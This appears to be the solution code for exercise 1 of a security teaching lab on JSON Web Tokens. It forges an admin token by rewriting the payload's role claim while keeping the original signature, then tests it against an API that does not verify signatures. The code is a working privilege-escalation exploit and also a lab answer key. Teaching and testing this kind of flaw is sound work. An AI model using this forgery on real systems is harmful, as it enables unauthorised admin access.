# Solution: 10-attack-lab, exercise 1
header_part, _, signature_part = my_token.split('.')
admin_claims = {**parts.payload, 'role': 'admin'}
forged_1 = f'{header_part}.{encode_part(admin_claims)}.{signature_part}'

check_attack('unverified signature', forged_1, unchecked_api, safe)
